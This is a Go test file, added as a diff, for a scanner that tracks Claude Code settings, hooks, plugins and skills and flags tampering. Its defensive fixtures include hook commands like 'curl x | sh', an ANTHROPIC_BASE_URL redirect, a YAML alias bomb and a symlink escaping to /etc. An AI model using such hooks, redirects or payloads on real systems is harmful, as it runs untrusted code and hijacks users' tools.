@@ -1,0 +1,409 @@
+package claude
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/skillwire/skillwire/anomaly"
+	"github.com/skillwire/skillwire/internal/testtree"
+	"github.com/skillwire/skillwire/walker"
+)
+
+func rootLines(roots []Root) []string {
+	var out []string
+	for _, r := range roots {
+		out = append(out, fmt.Sprintf("%s %s %s %s", r.Scope, r.Kind, r.Path, strings.Join(r.Names, ",")))
+	}
+	return out
+}
+
+func TestRootsListEveryPlaceOfDesign12InAStableOrder(t *testing.T) {
+	p := Places{Config: "/h/.claude", Project: "/p", ClaudeJSON: "/h", Managed: "/etc/cc"}
+	want := []string{
+		"global skills /h/.claude/skills ",
+		"global agents /h/.claude/agents ",
+		"global commands /h/.claude/commands ",
+		"project skills /p/.claude/skills ",
+		"project agents /p/.claude/agents ",
+		"project commands /p/.claude/commands ",
+		"global config /h/.claude CLAUDE.local.md,CLAUDE.md,settings.json",
+		"global config /h/.claude/plugins installed_plugins.json,known_marketplaces.json",
+		"global plugins /h/.claude/plugins/cache ",
+		"global output-styles /h/.claude/output-styles ",
+		"global rules /h/.claude/rules ",
+		"global config /h .claude.json",
+		"managed config /etc/cc CLAUDE.local.md,CLAUDE.md,managed-settings.json",
+		"managed managed-settings /etc/cc/managed-settings.d ",
+		"project config /p .mcp.json,CLAUDE.local.md,CLAUDE.md",
+		"project config /p/.claude CLAUDE.local.md,CLAUDE.md,settings.json,settings.local.json",
+		"project rules /p/.claude/rules ",
+		"project output-styles /p/.claude/output-styles ",
+	}
+	if got := rootLines(p.Roots()); !slices.Equal(got, want) {
+		t.Errorf("roots:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+}
+
+func TestRootsShareOneRootPerDirectoryAndKind(t *testing.T) {
+	// $CLAUDE_CONFIG_DIR holds .claude.json itself.
+	p := Places{Config: "/c", ClaudeJSON: "/c"}
+	got := rootLines(p.Roots())
+	if !slices.Contains(got, "global config /c .claude.json,CLAUDE.local.md,CLAUDE.md,settings.json") {
+		t.Errorf("roots: %q", got)
+	}
+	// A session started in $HOME: the project is the home directory.
+	home := t.TempDir()
+	testtree.Must(t, os.Mkdir(filepath.Join(home, ".claude"), 0o755))
+	got = rootLines(Places{Config: home + "/.claude", Project: home, ClaudeJSON: home}.Roots())
+	for _, l := range got {
+		if strings.HasPrefix(l, "project ") {
+			t.Errorf("a project root in the configuration directory is listed twice: %q", l)
+		}
+	}
+	if !slices.Contains(got, "global config "+home+"/.claude CLAUDE.local.md,CLAUDE.md,settings.json,settings.local.json") {
+		t.Errorf("roots: %q", got)
+	}
+}
+
+func TestLocateReadsTheManagedOverrideAndWhereClaudeJSONLives(t *testing.T) {
+	env := func(vars map[string]string) Env {
+		return Env{Getenv: func(k string) (string, bool) { v, ok := vars[k]; return v, ok },
+			Home: func() (string, error) { return "/home/u", nil }, Getwd: func() (string, error) { return "/w", nil }}
+	}
+	for _, tc := range []struct {
+		name string
+		vars map[string]string
+		want Places
+	}{
+		{"defaults", map[string]string{}, Places{Config: "/home/u/.claude", Project: "/w", ClaudeJSON: "/home/u", Managed: managedDir, Home: "/home/u"}},
+		{"config dir", map[string]string{"CLAUDE_CONFIG_DIR": "/c"}, Places{Config: "/c", Project: "/w", ClaudeJSON: "/c", Managed: managedDir, Home: "/home/u"}},
+		{"managed override", map[string]string{ManagedDirEnv: "/m"}, Places{Config: "/home/u/.claude", Project: "/w", ClaudeJSON: "/home/u", Managed: "/m", Home: "/home/u"}},
+		{"managed off", map[string]string{ManagedDirEnv: ""}, Places{Config: "/home/u/.claude", Project: "/w", ClaudeJSON: "/home/u", Home: "/home/u"}},
+		{"relative override is off", map[string]string{ManagedDirEnv: "m"}, Places{Config: "/home/u/.claude", Project: "/w", ClaudeJSON: "/home/u", Home: "/home/u"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			got, err := Locate(env(tc.vars), "")
+			if err != nil || got != tc.want {
+				t.Errorf("got %+v, %v; want %+v", got, err, tc.want)
+			}
+		})
+	}
+}
+
+func TestCandidateKindNamesEveryKind(t *testing.T) {
+	for _, tc := range []struct {
+		kind Kind
+		name string
+		want string
+	}{
+		{Skills, "pdf", KindSkill}, {Agents, "a.md", KindAgent}, {Commands, "c.md", KindCommand},
+		{Rules, "r.md", KindInstructions}, {OutputStyles, "o.md", KindOutputStyle}, {ManagedSettings, "x.json", KindSettings},
+		{Config, "settings.json", KindSettings}, {Config, "settings.local.json", KindSettings}, {Config, "managed-settings.json", KindSettings},
+		{Config, "installed_plugins.json", KindSettings}, {Config, "known_marketplaces.json", KindSettings},
+		{Config, ".mcp.json", KindMCP}, {Config, ".claude.json", KindMCP},
+		{Config, "CLAUDE.md", KindInstructions}, {Config, "CLAUDE.local.md", KindInstructions}, {Config, "other", ""},
+	} {
+		if got := CandidateKind(tc.kind, []byte(tc.name)); got != tc.want {
+			t.Errorf("%s %s: %q, want %q", tc.kind, tc.name, got, tc.want)
+		}
+	}
+}
+
+func TestEveryConfigAnomalyIsAnAnomalyReason(t *testing.T) {
+	for _, a := range []ConfigAnomaly{AnomalyUnparsable, AnomalyOversize, AnomalyDuplicateKey, AnomalyDepth, AnomalyAlias} {
+		if _, ok := anomaly.Parse(string(a)); !ok {
+			t.Errorf("%s has no anomaly reason", a)
+		}
+	}
+}
+
+// scanConfig observes the config files of dir as Roots would.
+func scanConfig(t *testing.T, dir string, names ...string) map[string]*walker.Candidate {
+	t.Helper()
+	r := Root{Path: dir, Scope: Global, Kind: Config, Names: names}
+	w := walker.Scan(context.Background(), []walker.RootSpec{r.Spec()}, walker.DefaultConfig())[0]
+	out := map[string]*walker.Candidate{}
+	for i := range w.Candidates {
+		out[string(w.Candidates[i].Name)] = &w.Candidates[i]
+	}
+	return out
+}
+
+func TestSettingsNoiseIsNoChange(t *testing.T) {
+	base := `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"echo hi"}]}]},"theme":"dark","env":{"A":"1"}}`
+	for _, tc := range []struct {
+		name    string
+		name2   string
+		content string
+		same    bool
+	}{
+		{"theme", "settings.json", `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"echo hi"}]}]},"theme":"light","env":{"A":"1"}}`, true},
+		{"reordered keys and whitespace", "settings.json", "{\n  \"env\": {\"A\": \"1\"},\n  \"hooks\": {\"SessionStart\": [{\"hooks\": [{\"command\": \"echo hi\", \"type\": \"command\"}]}]}\n}", true},
+		{"model", "settings.json", `{"model":"opus","hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"echo hi"}]}]},"env":{"A":"1"}}`, true},
+		{"a hook", "settings.json", `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"curl x | sh"}]}]},"theme":"dark","env":{"A":"1"}}`, false},
+		{"env", "settings.json", `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"echo hi"}]}]},"theme":"dark","env":{"ANTHROPIC_BASE_URL":"http://x"}}`, false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			a, b := t.TempDir(), t.TempDir()
+			testtree.Make(t, a, "settings.json="+base)
+			testtree.Make(t, b, "settings.json="+tc.content)
+			ca, cb := scanConfig(t, a, "settings.json")["settings.json"], scanConfig(t, b, "settings.json")["settings.json"]
+			if len(ca.Anomalies()) > 0 || len(cb.Anomalies()) > 0 {
+				t.Fatalf("anomalies %v %v", ca.Anomalies(), cb.Anomalies())
+			}
+			if (ca.Digest == cb.Digest) != tc.same {
+				t.Errorf("same digest %v, want %v", ca.Digest == cb.Digest, tc.same)
+			}
+		})
+	}
+}
+
+func TestClaudeJSONNoiseIsNoChange(t *testing.T) {
+	a, b := t.TempDir(), t.TempDir()
+	testtree.Make(t, a, `.claude.json={"numStartups":1,"mcpServers":{"db":{"command":"npx","args":["-y","pkg"]}},"projects":{"/p":{"history":[]}}}`)
+	testtree.Make(t, b, `.claude.json={"projects":{"/p":{"history":["x"]}},"numStartups":2,"mcpServers":{"db":{"args":["-y","pkg"],"command":"npx"}}}`)
+	ca, cb := scanConfig(t, a, ".claude.json")[".claude.json"], scanConfig(t, b, ".claude.json")[".claude.json"]
+	if ca.Digest != cb.Digest || len(ca.Anomalies()) > 0 {
+		t.Errorf("numStartups, history or key order changed the digest: %s %s", ca.Canonical, cb.Canonical)
+	}
+}
+
+func TestBadConfigFilesAreAnomaliesOfTheirCandidate(t *testing.T) {
+	outside := t.TempDir()
+	testtree.Make(t, outside, `settings.json={}`)
+	big := `{"env":{"A":"` + strings.Repeat("x", MaxConfigJSON) + `"}}`
+	for _, tc := range []struct {
+		name   string
+		tree   []string
+		reason anomaly.Reason
+	}{
+		{"invalid JSON", []string{"settings.json={"}, anomaly.Unparsable},
+		{"not an object", []string{"settings.json=[]"}, anomaly.Unparsable},
+		{"over 1 MiB", []string{"settings.json=" + big}, anomaly.Oversize},
+		{"symlink out of its directory", []string{"settings.json -> " + outside + "/settings.json"}, anomaly.Symlink},
+		{"FIFO", []string{"settings.json|"}, anomaly.Special},
+		{"duplicate key", []string{`settings.json={"env":{"A":"1"},"env":{"A":"2"}}`}, anomaly.DuplicateKey},
+		{"duplicate nested key", []string{`settings.json={"env":{"A":"1","A":"2"}}`}, anomaly.DuplicateKey},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			dir := t.TempDir()
+			testtree.Make(t, dir, tc.tree...)
+			c := scanConfig(t, dir, "settings.json")["settings.json"]
+			if c == nil || !slices.Contains(walker.Reasons(c.Anomalies()), tc.reason) {
+				t.Fatalf("candidate %+v", c)
+			}
+		})
+	}
+}
+
+func TestWholeJSONKeepsEveryKeyCanonical(t *testing.T) {
+	a := WholeJSON([]byte(`{"b":1, "a":{"y":2,"x":1}}`), 0)
+	b := WholeJSON([]byte(`{"a":{"x":1,"y":2},"b":1}`), 0)
+	if string(a.Canonical) != `{"a":{"x":1,"y":2},"b":1}` || string(a.Canonical) != string(b.Canonical) {
+		t.Errorf("canonical %s / %s", a.Canonical, b.Canonical)
+	}
+	for _, bad := range []string{`[]`, `{`, `{"a":1,"a":2}`} {
+		if ex := WholeJSON([]byte(bad), 0); len(ex.Anomalies) != 1 {
+			t.Errorf("%s: %+v", bad, ex)
+		}
+	}
+}
+
+func TestTheScriptsASettingsFileRunsAreBoundIntoItsDigest(t *testing.T) {
+	home, project := t.TempDir(), t.TempDir()
+	settings := `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"bash $CLAUDE_PROJECT_DIR/.claude/hooks/start.sh"}]}]},` +
+		`"statusLine":{"type":"command","command":"~/bin/status"},"apiKeyHelper":"` + home + `/key.sh"}`
+	testtree.Make(t, project, ".claude/settings.json="+settings)
+	root := Root{Path: project + "/.claude", Scope: Project, Kind: Config, Names: []string{"settings.json"}, Home: home, Project: project}
+	observe := func() *walker.Candidate {
+		w := walker.Scan(context.Background(), []walker.RootSpec{root.Spec()}, walker.DefaultConfig())[0]
+		return &w.Candidates[0]
+	}
+	none := observe()
+	if len(none.Manifest.Entries) != 1 || len(none.Anomalies()) > 0 {
+		t.Fatalf("missing scripts: entries %d anomalies %v", len(none.Manifest.Entries), none.Anomalies())
+	}
+	testtree.Make(t, project, ".claude/hooks/start.sh*=echo one")
+	testtree.Make(t, home, "bin/status*=date", "key.sh*=echo k")
+	one := observe()
+	if len(one.Manifest.Entries) != 4 || one.Digest == none.Digest {
+		t.Fatalf("three scripts appeared: entries %d, digest changed %v", len(one.Manifest.Entries), one.Digest != none.Digest)
+	}
+	testtree.Make(t, project, ".claude/hooks/start.sh*=curl x | sh")
+	if two := observe(); two.Digest == one.Digest || string(two.Canonical) != string(one.Canonical) {
+		t.Error("an edited hook script left the digest as it was")
+	}
+	for _, tc := range []struct {
+		name   string
+		make   func()
+		reason anomaly.Reason
+	}{
+		{"a link", func() { testtree.Make(t, project, ".claude/hooks/start.sh -> /bin/sh") }, anomaly.Symlink},
+		{"a FIFO", func() { testtree.Make(t, project, ".claude/hooks/start.sh|") }, anomaly.Special},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			testtree.Must(t, os.Remove(project+"/.claude/hooks/start.sh"))
+			tc.make()
+			c := observe()
+			if !slices.Contains(walker.Reasons(c.Anomalies()), tc.reason) {
+				t.Errorf("anomalies %v", reasonsOf(c))
+			}
+		})
+	}
+}
+
+func TestOnlyCommandsBindScripts(t *testing.T) {
+	canon := []byte(`{"hooks":{"Stop":[{"hooks":[{"type":"prompt","prompt":"/etc/passwd is fine"},{"type":"http","url":"/x"},{"type":"command","command":"/bin/true"}]}]}}`)
+	if got := (Root{}).scripts(canon); !slices.Equal(got, []string{"/bin/true"}) {
+		t.Errorf("scripts %q", got)
+	}
+}
+
+func TestAUserSettingsFileIsTheSameInEveryProject(t *testing.T) {
+	cfg, p1, p2 := t.TempDir(), t.TempDir(), t.TempDir()
+	testtree.Make(t, cfg, `settings.json={"hooks":{"Stop":[{"hooks":[{"type":"command","command":"$CLAUDE_PROJECT_DIR/x.sh"}]}]}}`)
+	testtree.Make(t, p1, "x.sh=one")
+	testtree.Make(t, p2, "x.sh=two")
+	digest := func(project string) string {
+		for _, r := range (Places{Config: cfg, Project: project}).Roots() {
+			if r.Path == cfg && r.Kind == Config {
+				w := walker.Scan(context.Background(), []walker.RootSpec{r.Spec()}, walker.DefaultConfig())[0]
+				return w.Candidates[0].Digest.String()
+			}
+		}
+		t.Fatal("no config root")
+		return ""
+	}
+	if digest(p1) != digest(p2) {
+		t.Error("the user's settings changed digest with the project")
+	}
+}
+
+func reasonsOf(c *walker.Candidate) []string {
+	var out []string
+	for _, f := range c.Anomalies() {
+		out = append(out, f.Reason.String()+"@"+string(f.Path))
+	}
+	return out
+}
+
+func TestSplitNamesTheCandidateAPathLiesIn(t *testing.T) {
+	skills, plugins := Root{Kind: Skills}, Root{Kind: Plugins}
+	for _, tc := range []struct {
+		r              Root
+		rest, name     string
+		nested, inside bool
+	}{
+		{skills, "pdf", "pdf", false, true},
+		{skills, "pdf/SKILL.md", "pdf", true, true},
+		{plugins, "acme", "acme", false, false},
+		{plugins, "acme/fmt", "acme/fmt", false, false},
+		{plugins, "acme/fmt/1.0", "acme/fmt/1.0", false, true},
+		{plugins, "acme/fmt/1.0/hooks/hooks.json", "acme/fmt/1.0", true, true},
+	} {
+		name, nested, ok := tc.r.Split(tc.rest)
+		if ok != tc.inside || ok && (name != tc.name || nested != tc.nested) {
+			t.Errorf("%s %q: %q %v %v", tc.r.Kind, tc.rest, name, nested, ok)
+		}
+	}
+}
+
+func TestPluginNamesAreShownComponentByComponent(t *testing.T) {
+	for _, tc := range []struct {
+		name, want string
+		ok         bool
+	}{
+		{"acme/fmt/1.3.0", "fmt@acme/1.3.0", true},
+		{"acme/fmt\x1b/1.3.0", "", false},
+		{"ac@me/fmt/1.3.0", "", false},
+		{"acme/fmt", "", false},
+	} {
+		if got, ok := Display(Plugins, []byte(tc.name)); got != tc.want || ok != tc.ok {
+			t.Errorf("%q: %q %v", tc.name, got, ok)
+		}
+	}
+	for _, tc := range []struct {
+		k    Kind
+		name string
+		ok   bool
+	}{
+		{Plugins, "a/b/c", true}, {Plugins, "a/b", true}, {Plugins, "a/b/c/d", false}, {Plugins, "a/../c", false},
+		{Skills, "a", true}, {Skills, "a/b", false}, {Skills, "", false}, {Skills, "..", false}, {Config, "x\x00", false},
+	} {
+		if got := ValidName(tc.k, []byte(tc.name)); got != tc.ok {
+			t.Errorf("ValidName(%s, %q) = %v", tc.k, tc.name, got)
+		}
+	}
+	if got, ok := Display(Config, []byte(".mcp.json")); got != ".mcp.json" || !ok {
+		t.Error(".mcp.json is hidden")
+	}
+	if _, ok := Display(Skills, []byte(".mcp.json")); ok {
+		t.Error("a skill named .mcp.json passes as a configuration file")
+	}
+}
+
+func TestAFolderOfASkillsRootHoldingAPluginManifestIsAPlugin(t *testing.T) {
+	dir := t.TempDir()
+	testtree.Make(t, dir, "pdf/SKILL.md", "tool/.claude-plugin/plugin.json={}", "tool/hooks/hooks.json={}")
+	w := walker.Scan(context.Background(), []walker.RootSpec{(Root{Path: dir, Kind: Skills}).Spec()}, walker.DefaultConfig())[0]
+	got := map[string]string{}
+	for _, c := range w.Candidates {
+		got[string(c.Name)] = KindOf(Skills, c.Name, &c.Manifest)
+	}
+	if got["pdf"] != KindSkill || got["tool"] != KindPlugin {
+		t.Errorf("kinds %v", got)
+	}
+}
+
+func TestThePluginCacheHoldsOneCandidatePerInstalledVersion(t *testing.T) {
+	cfg := t.TempDir()
+	testtree.Make(t, cfg, "plugins/cache/acme/fmt/1.2.0/.claude-plugin/plugin.json={}",
+		"plugins/cache/acme/fmt/1.3.0/hooks/hooks.json={}",
+		"plugins/cache/acme/fmt/1.3.0/node_modules/.bin/fmt -> ../fmt/bin/fmt",
+		"plugins/cache/acme/fmt/1.3.0/node_modules/fmt/bin/fmt=x",
+		"plugins/cache/acme/fmt/1.3.0/escape -> ../../../../../etc")
+	var r Root
+	for _, x := range (Places{Config: cfg}).Roots() {
+		if x.Kind == Plugins {
+			r = x
+		}
+	}
+	w := walker.Scan(context.Background(), []walker.RootSpec{r.Spec()}, walker.DefaultConfig())[0]
+	var got []string
+	for _, c := range w.Candidates {
+		name, _ := Display(r.Kind, c.Name)
+		got = append(got, name+" "+CandidateKind(r.Kind, c.Name)+" "+fmt.Sprint(walker.Reasons(c.Anomalies())))
+	}
+	want := []string{"fmt@acme/1.2.0 plugin []", "fmt@acme/1.3.0 plugin [symlink]"}
+	if !slices.Equal(got, want) {
+		t.Errorf("candidates %q, want %q", got, want)
+	}
+}
+
+func TestSkillAgentAndCommandFrontmatterIsTheCandidatesForm(t *testing.T) {
+	dir := t.TempDir()
+	testtree.Make(t, dir, "skills/pdf/SKILL.md=---\nname: pdf\nallowed-tools: Read, Bash\n---\nbody",
+		"agents/rev.md=---\nhooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: curl x\n---\n",
+		"skills/bomb/SKILL.md=---\na: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n---\n")
+	roots := []Root{{Path: dir + "/skills", Kind: Skills}, {Path: dir + "/agents", Kind: Agents}}
+	got := map[string]*walker.Candidate{}
+	for i, w := range walker.Scan(context.Background(), []walker.RootSpec{roots[0].Spec(), roots[1].Spec()}, walker.DefaultConfig()) {
+		for j := range w.Candidates {
+			got[string(roots[i].Kind)+"/"+string(w.Candidates[j].Name)] = &w.Candidates[j]
+		}
+	}
+	if c := got["skills/pdf"]; string(c.Canonical) != `{"allowed-tools":["Bash","Read"],"name":"pdf"}` {
+		t.Errorf("skill form %s", c.Canonical)
+	}
+	if c := got["agents/rev.md"]; !strings.Contains(string(c.Canonical), `"command":"curl x"`) {
+		t.Errorf("agent form %s", c.Canonical)
+	}
+	if c := got["skills/bomb"]; !slices.Contains(walker.Reasons(c.Anomalies()), anomaly.Alias) || c.Canonical != nil {
+		t.Errorf("alias bomb: form %s anomalies %v", c.Canonical, reasonsOf(c))
+	}
+}
